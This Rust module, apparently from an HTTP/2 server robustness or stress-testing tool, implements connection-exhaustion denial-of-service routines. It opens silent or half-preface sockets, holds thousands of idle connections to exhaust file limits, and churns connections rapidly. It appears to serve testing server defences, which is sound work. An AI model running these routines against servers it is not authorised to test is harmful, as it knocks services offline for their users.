//! Attacks by connections alone.

use std::{io, net::SocketAddr, sync::atomic::Ordering::Relaxed};

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{
    CLOSED, keep, on_each,
    raw_connection::{PREFACE, RawConnection, socket},
};

/// How many sockets that say nothing.
const MUTE: usize = 500;
/// How many connections: more than the files of most servers.
const IDLE: usize = 6_000;
/// How many are opened at a time, below the backlog of a listener.
const AT_ONCE: usize = 64;

/// Sockets that send nothing, half a preface, or the preface and no SETTINGS.
pub(super) async fn mute(to: SocketAddr) {
    let said = |n| [&[][..], &PREFACE[..12], PREFACE][n % 3];
    join_all((0..MUTE).map(|n| tokio::spawn(says(to, said(n))))).await;
}

/// Ends when the server has closed it.
async fn says(to: SocketAddr, bytes: &'static [u8]) -> io::Result<()> {
    let mut stream = socket(to).await?;
    stream.write_all(bytes).await?;
    let mut scratch = [0; 1024];
    while stream.read(&mut scratch).await? > 0 {}
    CLOSED.fetch_add(1, Relaxed);
    Ok(())
}

/// Connections that are well and do nothing.
pub(super) async fn idle(to: SocketAddr) {
    let mut held = Vec::new();
    for _ in 0..IDLE / AT_ONCE {
        held.extend(join_all((0..AT_ONCE).map(|_| RawConnection::open(to, &[]))).await);
    }
    keep(held).await;
}

/// Connections that are opened and closed as fast as can be.
pub(super) async fn churn(to: SocketAddr) {
    on_each(AT_ONCE, || async move { RawConnection::open(to, &[]).await.map(drop) }).await;
}
